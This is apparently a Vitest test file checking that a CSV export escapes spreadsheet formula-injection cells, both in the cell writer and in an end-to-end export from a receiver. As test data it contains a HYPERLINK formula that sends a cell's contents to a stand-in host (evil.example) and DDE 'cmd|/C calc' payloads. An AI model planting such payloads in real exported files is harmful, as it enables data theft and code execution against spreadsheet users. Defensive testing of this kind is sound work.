// @vitest-environment node
// CSV injection (OWASP): cells a spreadsheet would run as formulas come out as quoted text,
// checked on the cell writer and on `npm run export` over a real receiver's SQLite file.
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { describe as describeQuote } from '../lib/anchoring';
import { PROTOCOL } from '../lib/protocol';
import type { Highlight } from '../lib/report';
import { SAMPLE_CLIENT, sampleId, sampleUploaded } from '../tests/helpers/sample-reports';
import { csvCell, csvRow, unescapeCsvCell } from './csv';
import { parseCsv } from '../lib/csv';
import { HIGHLIGHT_COLUMNS } from './exports';
import { runExport, startReceiver } from './testing';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
    ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('writes %j as quoted text with a leading quote', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves ordinary text and numbers alone, a negative number in a numeric column included', () => {
    expect(csvRow(['lorry', 'a = b', 'x-1', 'e-mail@example.org', -1, 0, 42, undefined])).toBe('lorry,a = b,x-1,e-mail@example.org,-1,0,42,');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
  });

  it('is reversible: unescapeCsvCell gives back every original text, quotes before a trigger included', () => {
    for (const text of ['=1', "'=1", "''+x", "'tis", "'", '', 'plain', '-', '@', '\t', "it's", "'-5 °C"]) {
      const cell = csvCell(text);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unescapeCsvCell(unquoted)).toBe(text);
    }
    // Text that starts with a quote but no trigger is not touched.
    expect(csvCell("'tis")).toBe("'tis");
  });
});

describe('highlights-csv export from a real receiver', () => {
  const outDir = mkdtempSync(join(tmpdir(), 'sounds-local-csv-'));
  afterAll(() => rmSync(outDir, { recursive: true, force: true }));

  it('escapes formula cells in every text column an uploader controls and keeps offsets numeric', async () => {
    const answer = 'Pay =1+1 now or +44 20 later; -5 °C at @home.';
    const mark = (exact: string, k: number, extra: Partial<Highlight> = {}): Highlight => {
      const start = answer.indexOf(exact);
      return {
        id: sampleId(k, 55),
        start,
        end: start + exact.length,
        ...describeQuote(answer, { start, end: start + exact.length }),
        category: 'other',
        severity: 'minor',
        suggestion: '',
        source: 'user',
        ...extra,
      };
    };
    const report = sampleUploaded(9_001, {
      expected_locale: 'en-GB',
      answer,
      model: { label: '=cmd|"/C calc"!A0', source: 'user' },
      highlights: [
        mark('=1+1', 1, { suggestion: '@SUM(A1:A9)', note: '\tnote with a tab' }),
        mark('+44 20', 2, { suggestion: '-1', alternatives: ['=2'] }),
        mark('-5 °C', 3, { note: '\rcarriage' }),
        mark('@home', 4, { suggestion: 'at home' }),
      ],
    });
    const receiver = await startReceiver();
    try {
      const response = await fetch(`${receiver.url}/v1/reports`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'Idempotency-Key': randomUUID() },
        body: JSON.stringify({ protocol: PROTOCOL, client: SAMPLE_CLIENT, reports: [report] }),
      });
      expect(await response.json()).toEqual({ results: [{ id: report.id, status: 'accepted' }] });
      const out = join(outDir, 'highlights.csv');
      const result = await runExport(['--data-dir', receiver.dataDir, '--format', 'highlights-csv', '--out', out]);
      expect(result.code, result.output).toBe(0);
      const text = readFileSync(out, 'utf8');
      const lines = text.split('\r\n');
      expect(lines[0]).toBe(HIGHLIGHT_COLUMNS.join(','));

      // No cell of the file begins with a formula trigger; offsets are bare numbers; the
      // marked phrases read back exactly.
      const rows = parseCsv(text);
      expect(rows).toHaveLength(1 + report.highlights.length);
      for (const row of rows.slice(1)) {
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        const at = (column: (typeof HIGHLIGHT_COLUMNS)[number]) => row[HIGHLIGHT_COLUMNS.indexOf(column)]!;
        expect(at('start')).toMatch(/^\d+$/);
        expect(unescapeCsvCell(at('exact'))).toBe(answer.slice(Number(at('start')), Number(at('end'))));
        expect(unescapeCsvCell(at('model_label'))).toBe(report.model.label);
      }
      for (const [i, h] of report.highlights.entries()) expect(lines[i + 1]).toContain(`,other,minor,${h.start},${h.end},"'${h.exact}",`);
      expect(lines[1]).toContain(`"'=cmd|""/C calc""!A0"`);
      expect(lines[1]).toContain(`"'@SUM(A1:A9)"`);
      expect(lines[1]).toContain(`"'\tnote with a tab"`);
      expect(lines[2]).toContain(`"'-1"`);
      expect(text).toContain(`"'\rcarriage"`);
      // alternatives is a JSON array: it starts with "[", which no spreadsheet runs.
      expect(lines[2]).toContain(`"[""=2""]"`);
    } finally {
      await receiver.stop();
    }
  });
});
